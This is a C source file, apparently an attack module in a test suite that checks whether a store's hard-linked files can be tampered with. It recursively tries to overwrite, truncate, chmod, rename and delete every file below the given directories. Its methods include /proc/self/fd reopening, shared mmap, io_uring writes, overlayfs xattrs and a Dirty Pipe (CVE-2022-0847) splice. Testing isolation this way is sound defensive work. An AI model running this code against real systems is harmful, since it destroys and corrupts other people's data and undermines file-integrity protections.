/*
 * Ways to change a file that one may read, and that is one file with others' by a hard link. What came of it shows where the others
 * are; so these attacks never say that they succeeded.
 */
#include "attack.h"
#include <dirent.h>
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <linux/io_uring.h>

static const char text[] = "spoiled";

/* Opened for reading, and again for writing by its descriptor. */
static void by_descriptor(const char *path)
{
	static const int flags[] = {O_WRONLY, O_RDWR, O_RDWR | O_APPEND, O_WRONLY | O_TRUNC, O_RDONLY | O_TRUNC};
	int fd = open(path, O_RDONLY);
	char again[64];

	if (fd < 0)
		return;
	fchmod(fd, 0777);
	fchown(fd, geteuid(), getegid());
	futimens(fd, (struct timespec[2]){{1, 0}, {1, 0}});
	if (ftruncate(fd, 1) == 0 || write(fd, text, sizeof text) > 0 || fallocate(fd, 0, 0, 1 << 16) == 0)
		fprintf(stderr, "written by a descriptor for reading: %s\n", path);
	fsetxattr(fd, "user.spoiled", text, sizeof text, 0);
	fremovexattr(fd, "user.kept");
	snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
	for (size_t i = 0; i < sizeof flags / sizeof *flags; i++) {
		int other = open(again, flags[i]);

		if (other >= 0) {
			pwrite(other, text, sizeof text, 0);
			close(other);
		}
	}
	chmod(again, 0777);
	truncate(again, 3);
	setxattr(again, "user.spoiled", text, sizeof text, 0);
	linkat(AT_FDCWD, again, AT_FDCWD, "/tmp/linked", AT_SYMLINK_FOLLOW);
	linkat(fd, "", AT_FDCWD, "/tmp/linked", AT_EMPTY_PATH);
	close(fd);
}

/* A descriptor that names a file, but is open for nothing. */
static void by_name_alone(const char *path)
{
	int fd = open(path, O_PATH);
	char again[64];

	if (fd < 0)
		return;
	snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
	chmod(again, 0777);
	truncate(again, 2);
	utimensat(fd, "", (struct timespec[2]){{2, 0}, {2, 0}}, AT_EMPTY_PATH);
	fchownat(fd, "", geteuid(), getegid(), AT_EMPTY_PATH);
	syscall(452 /* fchmodat2 */, fd, "", 0777, AT_EMPTY_PATH);
	close(fd);
}

static void by_mapping(const char *path)
{
	int fd = open(path, O_RDONLY);
	char *bytes;

	if (fd < 0)
		return;
	bytes = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (bytes == MAP_FAILED) {
		bytes = mmap(0, 4096, PROT_READ, MAP_SHARED, fd, 0);
		if (bytes != MAP_FAILED && mprotect(bytes, 4096, PROT_READ | PROT_WRITE) != 0)
			bytes = MAP_FAILED;
	}
	if (bytes != MAP_FAILED) {
		struct stat status;

		if (fstat(fd, &status) == 0 && status.st_size > 0)
			memcpy(bytes, text, sizeof text);
		msync(bytes, 4096, MS_SYNC);
	}
	/* past the file that it was opened as, to the one that it is mapped from */
	bytes = mmap(0, 4096, PROT_READ, MAP_SHARED, fd, 0);
	if (bytes != MAP_FAILED) {
		char link[128];
		int other;

		snprintf(link, sizeof link, "/proc/self/map_files/%lx-%lx", (long)bytes, (long)bytes + 4096);
		other = open(link, O_RDWR);
		if (other >= 0 && write(other, text, sizeof text) > 0)
			close(other);
	}
	close(fd);
}

/* Calls that change a file by other means than writing to it, or write without being asked to. */
static void by_ioctl(const char *path)
{
	static const int flags[] = {FS_NODUMP_FL, FS_NOATIME_FL, FS_APPEND_FL, FS_IMMUTABLE_FL};
	int fd = open(path, O_RDONLY);
	int own = open("/tmp/own", O_RDWR | O_CREAT, 0600);
	int ends[2];

	if (fd < 0)
		return;
	for (size_t i = 0; i < sizeof flags / sizeof *flags; i++)
		ioctl(fd, FS_IOC_SETFLAGS, &flags[i]);
	ioctl(fd, FS_IOC_FSSETXATTR, &(struct fsxattr){.fsx_projid = 7});
	if (own >= 0 && write(own, text, sizeof text) > 0) {
		ioctl(fd, FICLONE, own);
		copy_file_range(own, &(off_t){0}, fd, &(off_t){0}, sizeof text, 0);
		sendfile(fd, own, &(off_t){0}, sizeof text);
	}
	fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 1);
	/* CVE-2022-0847: a pipe whose page is the file's, and is written to */
	if (pipe(ends) == 0) {
		if (splice(fd, &(off_t){0}, ends[1], 0, 1, 0) == 1 && write(ends[1], text, sizeof text) > 0)
			splice(ends[0], 0, fd, &(off_t){1}, sizeof text, 0);
		close(ends[0]);
		close(ends[1]);
	}
	close(own);
	close(fd);
}

/* An io_uring of which nothing but one write is asked. */
static void by_ring(const char *path)
{
	struct io_uring_params parameters;
	int fd = open(path, O_RDONLY);
	int ring;

	memset(&parameters, 0, sizeof parameters);
	ring = (int)syscall(SYS_io_uring_setup, 1, &parameters);
	if (ring >= 0 && fd >= 0) {
		char *queue = mmap(0, parameters.sq_off.array + 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
		struct io_uring_sqe *entry = mmap(0, sizeof *entry, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);

		if (queue != MAP_FAILED && entry != MAP_FAILED) {
			memset(entry, 0, sizeof *entry);
			entry->opcode = IORING_OP_WRITE;
			entry->fd = fd;
			entry->addr = (uint64_t)(uintptr_t)text;
			entry->len = sizeof text;
			*(uint32_t *)(queue + parameters.sq_off.array) = 0;
			*(uint32_t *)(queue + parameters.sq_off.tail) = 1;
			syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
		}
	}
	close(ring);
	close(fd);
}

static void by_path(const char *path)
{
	char other[4100];
	int fd;

	snprintf(other, sizeof other, "%s.other", path);
	link(path, other);
	chmod(other, 0777);
	chmod(path, 0777);
	lchown(path, geteuid(), getegid());
	utimensat(AT_FDCWD, path, (struct timespec[2]){{3, 0}, {3, 0}}, AT_SYMLINK_NOFOLLOW);
	setxattr(path, "user.spoiled", text, sizeof text, 0);
	setxattr(path, "user.overlay.opaque", "y", 1, 0);
	setxattr(path, "user.overlay.redirect", "/", 1, 0);
	setxattr(path, "user.overlay.metacopy", "", 0, 0);
	truncate(path, 5);
	fd = open(path, O_WRONLY | O_APPEND);
	if (fd >= 0) {
		pwrite(fd, text, sizeof text, 0);
		close(fd);
	}
	rename(path, other);
	unlink(other);
}

static void spoil_file(const char *path)
{
	by_descriptor(path);
	by_name_alone(path);
	by_mapping(path);
	by_ioctl(path);
	by_ring(path);
	by_path(path);
}

static void spoil_below(const char *directory)
{
	DIR *entries = opendir(directory);
	struct dirent *entry;
	int unnamed = open(directory, O_TMPFILE | O_RDWR, 0600);
	char path[4096];

	if (unnamed >= 0) {
		snprintf(path, sizeof path, "%s/unnamed", directory);
		linkat(unnamed, "", AT_FDCWD, path, AT_EMPTY_PATH);
		close(unnamed);
	}
	while (entries != 0 && (entry = readdir(entries)) != 0) {
		struct stat status;

		if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0)
			continue;
		snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
		if (lstat(path, &status) != 0)
			continue;
		if (S_ISDIR(status.st_mode))
			spoil_below(path);
		else if (S_ISREG(status.st_mode))
			spoil_file(path);
		else
			by_path(path);
	}
	if (entries != 0)
		closedir(entries);
	rmdir(directory);
	chmod(directory, 0777);
	setxattr(directory, "user.overlay.opaque", "y", 1, 0);
	snprintf(path, sizeof path, "%s/new", directory);
	close(open(path, O_WRONLY | O_CREAT, 0666));
}

/* spoil DIRECTORY...: all that can be thought of is done to every file below them. */
static enum result spoil(char **words)
{
	for (; *words != 0; words++)
		spoil_below(*words);
	return REFUSED;
}

const struct attack store_attacks[] = {{"spoil", spoil}, {0, 0}};
